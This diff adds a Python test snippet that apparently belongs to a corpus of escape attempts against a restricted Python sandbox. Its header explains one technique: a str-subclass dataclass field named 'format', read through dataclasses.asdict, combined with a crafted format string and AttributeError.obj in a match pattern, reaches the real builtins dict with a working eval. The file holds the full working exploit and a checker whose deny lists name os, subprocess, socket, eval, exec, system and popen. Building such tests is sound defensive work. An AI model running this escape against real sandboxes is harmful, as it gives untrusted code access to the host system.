@@ -1,0 +1,105 @@
+# technique: since 5a55677 'format' is refused as an attribute name everywhere (class patterns, attrgetter, methodcaller, __match_args__), but a dataclass field may still be called format (the field-name check lets it through: '__match_args__ drops those'), and dataclasses.asdict reads every field with getattr(obj, field.name): a dataclass subclass of str with a field 'format' and no instance value (made with S.__new__, no __init__) hands back the bound str.format of a string built at run time; '{0.__globals__[__builtins__].x}' then fails on json's builtins dict and AttributeError.obj (a class-pattern keyword the runtime does not refuse) returns it
+# source: 171 (str.format on a run-time string + AttributeError.obj) through dataclasses' getattr by field name (132/163)
+# note: the validator refuses the 'obj' attribute; the runtime layer alone does not
+# ---- escape check: the same block in every snippet of the corpus ----------
+# It reads no refused attribute and holds no dunder string constant itself,
+# so that a refusal is always the technique's, never the checker's.
+def dn(s):
+    return '_' * 2 + s + '_' * 2
+
+
+DANGER = frozenset((
+    'os', 'posix', 'nt', 'sys', 'subprocess', '_posixsubprocess', 'builtins',
+    'ctypes', '_ctypes', 'socket', '_socket', 'importlib', '_imp',
+    '_frozen_importlib', '_frozen_importlib_external', 'gc', 'inspect', 'types',
+    'io', '_io', 'codecs', '_codecs', 'warnings', '_warnings', 'copyreg',
+    'posixpath', 'genericpath', 'marshal', 'pickle', '_pickle', 'runpy',
+    'linecache', 'traceback', 'threading', '_thread', 'locale', 'shutil',
+    'signal', '_signal', 'pty', 'platform', 'tokenize', 'zipimport', 'pkgutil',
+    'site', 'sysconfig', 'tempfile', 'pathlib', 'select', 'mmap', 'fcntl',
+    'resource', 'weakref', '_weakref', 'atexit', 'faulthandler', 'encodings',
+    'asyncio', 'argparse', 'gettext', 'pdb', 'pydoc', 'code', 'codeop', 'dis',
+    'json.tool', '__main__',
+))
+REAL = frozenset(('eval', 'exec', 'compile', 'open', 'getattr', 'setattr', 'delattr',
+                  'globals', 'locals', 'vars', 'breakpoint', '_getframe', 'system',
+                  'popen', 'fork', 'execv', 'get_referrers', dn('import')))
+
+
+def what(o, depth=0):
+    """What forbidden thing o is, or None."""
+    try:
+        t = type(o).__name__
+        if t in ('frame', 'code'):
+            return t + ' object'
+        if t == 'module':
+            n = o.__name__
+            if n in DANGER or n.split('.')[0] in DANGER:
+                return 'module ' + n
+            return None
+        if t == 'dict':
+            if dn('import') in o and 'eval' in o and 'open' in o:
+                try:
+                    works = o['eval']('1+1') == 2
+                except BaseException:
+                    works = False
+                return 'real builtins dict' + (' (eval works)' if works else '')
+            if dn('builtins') in o:
+                n = o['__name__'] if '__name__' in o else '?'
+                inner = what(o[dn('builtins')], depth + 1) if depth < 3 else None
+                return 'globals of ' + str(n) + (' -> ' + inner if inner else '')
+            return None
+        if t == 'builtin_function_or_method' and o.__name__ in REAL:
+            n = o.__name__
+            if n == 'eval':
+                return 'real eval' + (' (works)' if o('1+1') == 2 else '')
+            return 'real builtin ' + n
+        if t in ('_Helper', 'Quitter', '_Printer'):
+            return 'site builtin ' + t
+    except BaseException:
+        return None
+    return None
+
+
+def check(label, o):
+    w = what(o)
+    if w:
+        print('ESCAPED', label + ':', w)
+        return True
+    print('BLOCKED', label + ': reached only a', type(o).__name__)
+    return False
+
+
+def attempt(label, fn):
+    try:
+        return check(label, fn())
+    except BaseException as e:
+        print('BLOCKED', label + ':', type(e).__name__, str(e)[:160])
+        return False
+# ---- end of the escape check ----------------------------------------------
+
+import dataclasses, json
+
+FIELD = '{0.' + dn('globals') + '[' + dn('builtins') + '].x}'
+
+
+@dataclasses.dataclass
+class S(str):
+    format: int
+
+    def __new__(cls, *args, **kw):
+        return str.__new__(cls, FIELD)
+
+
+def via_asdict():
+    s = S.__new__(S)  # no __init__: getattr(s, 'format') is str.format bound to s
+    fmt = dataclasses.asdict(s)['format']
+    try:
+        fmt(json.dumps)
+    except AttributeError as e:
+        match e:
+            case AttributeError(obj=found):
+                return found
+    raise LookupError('no AttributeError')
+
+attempt("dataclasses.asdict -> getattr(s, 'format') -> str.format on a run-time string", via_asdict)
